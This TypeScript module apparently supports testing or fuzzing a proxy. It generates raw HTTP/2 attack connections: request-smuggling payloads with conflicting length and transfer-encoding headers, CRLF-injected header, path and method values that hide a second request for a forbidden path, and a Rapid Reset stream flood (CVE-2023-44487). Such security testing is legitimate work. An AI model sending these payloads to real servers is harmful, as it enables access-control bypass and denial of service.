/** HTTP/2 requests that no client library would send, as frames, made at random. */
import { forbidden, oneOf } from './smuggling-corpus.ts';

type Random = () => number;
type Field = readonly [name: string, value: string];

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A string of HPACK without Huffman coding (RFC 7541, 5.2). */
function packedString(text: string): Buffer {
  const bytes = Buffer.from(text, 'latin1');
  if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
  const length: number[] = [127];
  let rest = bytes.length - 127;
  for (; rest >= 128; rest >>= 7) length.push((rest & 127) | 128);
  length.push(rest);
  return Buffer.concat([Buffer.from(length), bytes]);
}

/** Each field a literal that is not indexed, with a new name (RFC 7541, 6.2.2). */
function packed(fields: readonly Field[]): Buffer {
  return Buffer.concat(
    fields.map(([name, value]) => Buffer.concat([Buffer.from([0]), packedString(name), packedString(value)])),
  );
}

/** How a client begins. */
export const opening: Buffer = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'),
  frame(4, 0, 0, Buffer.alloc(0)),
]);

const hidden = `GET ${forbidden} HTTP/1.1\r\nHost: a\r\n\r\n`;

/** Fields by which an HTTP/1.1 upstream could be misled, `N` the length of the body. */
const misleading: readonly Field[] = [
  ['content-length', '0'],
  ['content-length', 'N'],
  ['content-length', '1'],
  ['content-length', '99999'],
  ['content-length', 'N, N'],
  ['content-length', '+N'],
  ['content_length', '0'],
  ['transfer-encoding', 'chunked'],
  ['transfer-encoding', 'identity'],
  ['transfer_encoding', 'chunked'],
  ['transfer-encoding ', 'chunked'],
  ['connection', 'transfer-encoding'],
  ['upgrade', 'h2c'],
  ['te', 'chunked'],
  ['Transfer-Encoding', 'chunked'],
  ['x', `y\r\nTransfer-Encoding: chunked`],
  ['x', 'y\nContent-Length: 0'],
  ['x', 'y\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n'],
  ['x', 'y\x00'],
  ['x: y\r\ntransfer-encoding', 'chunked'],
  ['x:y', 'z'],
  ['host', 'b'],
  ['expect', '100-continue'],
  [':path', '/second'],
  [':late', 'x'],
  ['', 'x'],
];

const paths = [
  '/first',
  '/first',
  '/first',
  '/first HTTP/1.1\r\nHost: a\r\n\r\nGET /smuggled',
  '/first /smuggled',
  '//first',
  'http://a/first',
  '*',
  '',
  '/first#x',
  '/first\x00',
];
const methods = [
  'POST',
  'POST',
  'GET',
  'HEAD',
  'PUT',
  'GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\nGET',
  'get',
  'CONNECT',
  '',
];
const authorities = ['a', 'a', 'a', 'a', 'a b', 'a\r\nX: y', 'a@b', 'a/b', ''];

/** Attack `index` of a run: all bytes of a connection with one request. */
export function makeHttp2Attack(random: Random, index: number): Buffer {
  const chunked = index % 2 === 0;
  const body = random() < 0.8 ? (chunked ? `0\r\n\r\n${hidden}` : hidden) : '';
  const fields: Field[] = [
    [':method', random() < 0.8 ? 'POST' : oneOf(random, methods)],
    [':scheme', 'http'],
    [':authority', random() < 0.85 ? 'a' : oneOf(random, authorities)],
    [':path', random() < 0.8 ? '/first' : oneOf(random, paths)],
  ];
  const extra = Math.floor(random() * 3);
  for (let count = 0; count < extra; count += 1) {
    const [name, value] = oneOf(random, misleading);
    fields.push([name, value.replaceAll('N', String(body.length))]);
  }
  if (random() < 0.1) fields.reverse();
  const parts: Buffer[] = [opening, frame(1, body === '' ? 5 : 4, 1, packed(fields))];
  // In two pieces now and then, and sometimes with trailers that frame it anew.
  const trailers = random() < 0.2;
  const cut = random() < 0.3 ? Math.floor(body.length / 2) : 0;
  if (cut > 0) parts.push(frame(0, 0, 1, Buffer.from(body.slice(0, cut), 'latin1')));
  if (body !== '') parts.push(frame(0, trailers ? 0 : 1, 1, Buffer.from(body.slice(cut), 'latin1')));
  if (trailers && body !== '') parts.push(frame(1, 5, 1, packed([oneOf(random, misleading)])));
  return Buffer.concat(parts);
}

/** A plain request on a stream. */
export function getOf(stream: number): Buffer {
  const fields: Field[] = [
    [':method', 'GET'],
    [':scheme', 'http'],
    [':authority', 'a'],
    [':path', '/'],
  ];
  return frame(1, 5, stream, packed(fields));
}

/** The reset of a stream. */
export function resetOf(stream: number, code: number): Buffer {
  return frame(3, 0, stream, Buffer.from([0, 0, 0, code]));
}

/** An upload that its client breaks off: some of the body, and a reset with CANCEL in place of its end. */
export function brokenUpload(
  stream: number,
  sent: Buffer,
): { readonly begin: Buffer; readonly reset: Buffer } {
  const fields: Field[] = [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':authority', 'a'],
    [':path', '/'],
  ];
  return {
    begin: Buffer.concat([frame(1, 4, stream, packed(fields)), frame(0, 0, stream, sent)]),
    reset: resetOf(stream, 8),
  };
}

/** A connection that opens so many streams and resets each at once (CVE-2023-44487). */
export function rapidReset(streams: number): Buffer {
  const cancel = Buffer.from([0, 0, 0, 8]);
  const parts: Buffer[] = [opening];
  for (let stream = 1; stream < streams * 2; stream += 2) {
    parts.push(getOf(stream), frame(3, 0, stream, cancel));
  }
  return Buffer.concat(parts);
}

/** The types of the frames in what a server sent, as far as they are whole. */
export function frameTypes(received: Buffer): number[] {
  const types: number[] = [];
  for (let at = 0; at + 9 <= received.length; at += 9 + received.readUIntBE(at, 3))
    types.push(received[at + 3]!);
  return types;
}

export const goAway = 7;
